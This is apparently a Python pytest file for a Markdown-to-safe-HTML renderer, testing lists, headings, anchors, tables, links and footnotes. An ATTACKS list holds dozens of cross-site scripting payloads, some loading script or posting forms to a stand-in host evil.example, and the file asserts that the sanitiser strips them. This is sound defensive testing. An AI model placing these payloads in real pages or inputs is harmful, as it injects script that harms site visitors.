"""Markdown to safe HTML: read as GitHub reads it, sanitised by the policy, finished for our pages."""

from __future__ import annotations

import html5lib
import pytest

from lodestone.text.markdown import fill, render_page
from lodestone.text.sanitise import removals, sanitise
from text.reading import read


def html_of(text: str) -> str:
    return render_page(text)[0].html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\n- a\n- b", "<p>One</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("- a\n  - b\n    - c\n- d", None),
        ("1) a\n2) b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("2025. That was\n2026. This is", '<ol start="2025">'),
        ("It was\n2025. That was", "<p>It was\n2025. That was</p>"),
        (
            "~~gone~~ **b** *i* `c<d`",
            "<p><del>gone</del> <strong>b</strong> <em>i</em> <code>c&lt;d</code></p>",
        ),
        (
            "```python\nx = '<b>'\n```",
            '<pre tabindex="0"><code class="language-python">x = \'&lt;b&gt;\'\n</code></pre>',
        ),
        ("```\n- a\n  - b\n```", '<pre tabindex="0"><code>- a\n  - b\n</code></pre>'),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("<b>x", "<p><b>x</b></p>"),
        ("", ""),
    ],
)
def test_blocks(text: str, html: str | None) -> None:
    rendered = html_of(text)
    if html is None:
        assert rendered.count("<ul>") == 3
    else:
        assert html in rendered


def test_headings_fit_below_the_title_and_skip_no_level() -> None:
    text = "# A\n\n### B\n\n###### C\n\n## D\n\n# E\n\n<h4>F</h4>\n"
    body, _ = render_page(text)
    assert [(each.level, each.text, each.anchor) for each in body.headings] == [
        (2, "A", "a"),
        (3, "B", "b"),
        (4, "C", "c"),
        (3, "D", "d"),
        (2, "E", "e"),
        (3, "F", "f"),
    ]
    assert '<h4 id="c">C</h4>' in body.html
    assert "<h1" not in body.html


def test_anchors_are_unique_and_never_those_of_the_page() -> None:
    names = ["Sources", "KJ 1", "The same", "The same", "北方稀土", "Gap 2", "*The* `same`"]
    body, _ = render_page("".join(f"## {name}\n\n" for name in names))
    assert [each.anchor for each in body.headings] == [
        "text-sources",
        "text-kj-1",
        "the-same",
        "the-same-2",
        "x-113553ed",
        "text-gap-2",
        "the-same-3",
    ]


def test_tables_scroll_have_scopes_and_no_style() -> None:
    html = html_of("## Prices\n\nSee:\n| a | b | |\n|:-|-:|-|\n| 1 | 2 | 3 |\n\n| c |\n|-|\n| 4 |\n")
    assert '<div class="table-scroll" role="region" aria-label="Table 1: Prices" tabindex="0"><table>' in html
    assert 'aria-label="Table 2: Prices"' in html
    assert '<th scope="col" class="align-left">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "<td></td>" in html
    assert "style=" not in html
    assert " align=" not in html


def test_links_become_slots_and_others_are_made_safe() -> None:
    text = (
        "[a](b.md#c) [d](https://example.org/?x=1&y=2) ![e](../media/f.png) [g](mailto:h@example.org) [i](#j)"
    )
    body, problems = render_page(text, 100)
    assert problems == ()
    assert [(each.target, each.picture) for each in body.links] == [
        ("b.md#c", False),
        ("#j", False),
        ("../media/f.png", True),
    ]
    assert [each.span.shifted(-100).of(text) for each in body.links] == ["b.md#c", "#j", "../media/f.png"]
    assert '<a href="https://example.org/?x=1&amp;y=2" rel="noopener noreferrer">d</a>' in body.html
    assert '<img src="lodestone-slot:2" alt="e" loading="lazy">' in body.html
    assert fill(body.html, lambda n: f"/{n}?a&b").startswith('<p><a href="/0?a&amp;b">a</a>')


def test_a_slot_that_an_author_wrote_is_none() -> None:
    text = '<a href="lodestone-slot:7">x</a> `<a href="lodestone-slot:8">` href="lodestone-slot:9"'
    filled = fill(html_of(text), lambda n: f"filled-{n}")
    assert "filled" not in filled


def test_the_same_target_twice_is_found_twice() -> None:
    text = "[a](x.md) and\n[b](x.md)"
    body, _ = render_page(text)
    assert [each.span.start for each in body.links] == [4, 18]


def test_links_by_reference() -> None:
    text = "[a][1]\n\n[1]: y.md\n"
    body, _ = render_page(text)
    assert [(each.target, each.span.of(text)) for each in body.links] == [("y.md", "y.md")]


def test_a_text_that_lost_its_blank_lines_comes_out_in_paragraphs_and_lists() -> None:
    long = "Words about magnets and their makers go on for a while. " * 5
    html = html_of(f"Highlights\n- One\n- Two\n{long}\nA heading\n{long}")
    assert html.count("<p>") == 4
    assert html.count("<li>") == 2


def test_footnotes_keep_their_anchors() -> None:
    html = html_of("A claim.[^1]\n\n[^1]: The words.\n")
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>' in html
    assert '<li id="fn:1">' in html


FULL = """---
title: T
---
The **line** & [more](a.md).

Prose with [a note](b.md).

## Judgements
- **Likely**: it <b onclick="x">holds</b> [there](c.md). {#held}

## Implications
- **EU**: # no heading

## Watch
- 2026: a_b_c

## Gaps
- 1. who?
"""


def test_fragments_of_a_briefing() -> None:
    _, _, _, body = read(FULL)
    assert body.fragments == {
        "bottom-line": 'The <strong>line</strong> &amp; <a href="lodestone-slot:2">more</a>.',
        "held": 'it <b>holds</b> <a href="lodestone-slot:1">there</a>.',
        "implication-1": "# no heading",
        "watch-1": "a_b_c",
        "gap-1": "1. who?",
    }
    assert body.html == '<p>Prose with <a href="lodestone-slot:0">a note</a>.</p>'
    assert [each.span.of(FULL) for each in body.links] == ["b.md", "c.md", "a.md"]


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<video src=x onloadstart=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href=//evil.example>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<p id=main class=skip>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '# <script>alert(1)</script>\n\n## x" onmouseover="alert(1)',
    '![a" onerror="alert(1)](../media/x.png "b\' onload=alert(1)")',
    '[a](b.md "c\\" onclick=\\"alert(1)")',
]
"""Known ways to get code into a page; made up after the lists of the field."""


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_acts_comes_through(text: str) -> None:
    for part in (text, f"Words {text} more", f"- {text}\n", f"> {text}"):
        assert_harmless(html_of(part))


def assert_harmless(html: str) -> None:
    """Read by a browser's rules, the HTML holds only what pages of ours may hold."""
    allowed = {
        "class",
        "id",
        "rel",
        "role",
        "aria-label",
        "tabindex",
        "scope",
        "href",
        "src",
        "alt",
        "title",
        "lang",
    }
    allowed |= {
        "loading",
        "width",
        "height",
        "colspan",
        "rowspan",
        "start",
        "value",
        "type",
        "reversed",
        "dir",
        "datetime",
    }
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "base",
        }
        assert element.tag not in {"link", "meta", "video", "audio", "template", "button", "h1"}
        assert set(element.attrib) <= allowed
        for name in ("href", "src"):
            address = element.attrib.get(name, "https:")
            assert address.startswith(("lodestone-slot:", "https:", "http:", "mailto:", "#fn")), address


def test_what_is_taken_out_is_told_once_at_its_place() -> None:
    text = "One.\n\n<iframe src='x'></iframe> <b style='a'>two</b>\n\n`<script>` and <script>three</script>"
    _, problems = render_page(text)
    assert [(each.code, each.span.of(text), each.message.split(" is ")[0]) for each in problems] == [
        ("W313", "<iframe", "`<iframe>`"),
        ("W313", "style", "the attribute `style` of `<b>`"),
        ("W313", "<script", "`<script>`"),
    ]


@pytest.mark.parametrize(
    "html",
    [
        "<p>plain</p>",
        '<a href="https://example.org/">x</a>',
        "<ol start='3'><li>x</li></ol>",
        "<th scope=row>x</th>",
    ],
)
def test_what_is_allowed_is_neither_changed_nor_told(html: str) -> None:
    assert list(removals(html)) == []
    assert sanitise(sanitise(html)) == sanitise(html)
